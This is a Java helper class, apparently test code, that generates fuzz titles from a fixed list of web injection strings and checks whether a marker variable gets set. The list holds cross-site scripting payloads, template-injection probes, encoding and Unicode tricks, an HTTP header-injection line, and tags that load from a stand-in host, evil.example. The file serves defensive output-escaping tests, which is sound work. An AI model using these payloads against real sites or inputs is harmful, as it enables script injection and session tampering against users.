package org.coecorpus.serve;

import java.util.List;
import java.util.Random;

/** Titles that want to be more than text, the same for the same seed. */
final class HostileText {

  /** What a script that runs would set; nothing else on a page does. */
  static final String MARK = "pwned";

  private static final List<String> PIECES =
      List.of(
          "<script>window.pwned=1</script>",
          "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
          "<img src=x onerror=window.pwned=1>",
          "<img src=//evil.example/p.png>",
          "<svg/onload=window.pwned=1>",
          "<svg><script>window.pwned=1</script></svg>",
          "<iframe src=javascript:parent.pwned=1></iframe>",
          "<iframe srcdoc='<script>parent.pwned=1</script>'>",
          "<style>@import url(http://evil.example/x.css);</style>",
          "<link rel=stylesheet href=http://evil.example/x.css>",
          "<base href=http://evil.example/>",
          "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
          "<form action=http://evil.example/><input autofocus onfocus=window.pwned=1>",
          "<details open ontoggle=window.pwned=1>",
          "<body onload=window.pwned=1>",
          "<object data=http://evil.example/x.swf>",
          "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
          "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
          "<a href=\"javascript:window.pwned=1\">x</a>",
          "[x](javascript:window.pwned=1)",
          "![x](http://evil.example/p.png)",
          "[x](data:text/html,<script>window.pwned=1</script>)",
          "<http://evil.example/a>",
          "</title><script>window.pwned=1</script>",
          "</textarea><script>window.pwned=1</script>",
          "--><script>window.pwned=1</script><!--",
          "]]><script>window.pwned=1</script>",
          "\" onmouseover=\"window.pwned=1\" x=\"",
          "' autofocus onfocus='window.pwned=1",
          "`${window.pwned=1}`",
          "${7*7} {{7*7}} <%= 7*7 %> @template.x() !{x}",
          "&lt;script&gt;window.pwned=1&lt;/script&gt;",
          "&#60;script&#62;window.pwned=1&#60;/script&#62;",
          "&amp;&quot;&#0;&#x110000;",
          "javascript:window.pwned=1",
          "\u202e}1=denwp.wodniw{\u202c",
          "\u2028window.pwned=1\u2029",
          "\u0000\u0007\u001b[2J",
          "\ud800",
          "\udc00\ud800",
          "«<b>»",
          "» <script>window.pwned=1</script> «",
          "İ\u0130ı\u200d\ufeff",
          "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
          "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
          "a".repeat(400),
          "<".repeat(60),
          "&".repeat(60),
          "\r\nSet-Cookie: pwned=1\r\n\r\n<html>");

  private HostileText() {}

  /** One to four pieces, with words around them and sometimes cut in the middle. */
  static String of(long seed) {
    Random random = new Random(seed);
    StringBuilder text = new StringBuilder("outage ");
    for (int i = 0; i <= random.nextInt(4); i++) {
      String piece = PIECES.get(random.nextInt(PIECES.size()));
      int cut = random.nextInt(5) == 0 ? random.nextInt(piece.length()) : 0;
      text.append(piece.substring(cut)).append(random.nextBoolean() ? " " : "");
    }
    return text.toString();
  }
}
